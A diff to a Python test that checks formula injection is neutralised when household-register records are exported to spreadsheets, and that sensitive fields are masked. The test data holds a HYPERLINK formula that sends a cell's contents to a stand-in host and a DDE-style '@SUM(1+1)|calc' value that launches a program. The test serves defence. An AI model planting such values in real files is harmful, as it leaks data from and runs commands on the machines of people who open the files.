@@ -634,7 +634,9 @@ def test_formulas_in_delivered_values_are_inert_in_every_spreadsheet_export(city
     env, contract, lake = city
     attack = '=HYPERLINK("http://example.invalid/?"&A1,"点击查看")'
     rows = [
-        row(1, 公民身份号码="452424199001010X1", 民族=attack, 户籍地址="@SUM(1+1)|calc"),
+        row(
+            1, 公民身份号码="452424199001010X1", 姓名="=1+1", 民族=attack, 户籍地址="@SUM(1+1)|calc"
+        ),
         row(2, 民族="@SUM(1+1)"),
         row(3, 公民身份号码="-1", 户号="-2+3", 与户主关系="-12.5"),
         row(4),
@@ -653,7 +655,8 @@ def test_formulas_in_delivered_values_are_inert_in_every_spreadsheet_export(city
     by_row = {int(line["行号 row"]): line for line in lines}
     assert sorted(by_row) == [1, 3]
     assert by_row[1]["民族"] == "'" + attack
-    assert by_row[1]["户籍地址"] == "'@SU*******calc"  # masked, and made safe
+    assert by_row[1]["户籍地址"] == "***"  # masked as an address (no township or county named)
+    assert by_row[1]["姓名"] == "'=***"  # masked as a name (=1+1: four characters), still made safe
     assert (by_row[3]["户号"], by_row[3]["与户主关系"]) == ("'-2+3", "-12.5")
     assert "id_number.format" in by_row[1]["原因代码 reason codes"]
     assert by_row[1]["文件 file"].endswith("register.csv")
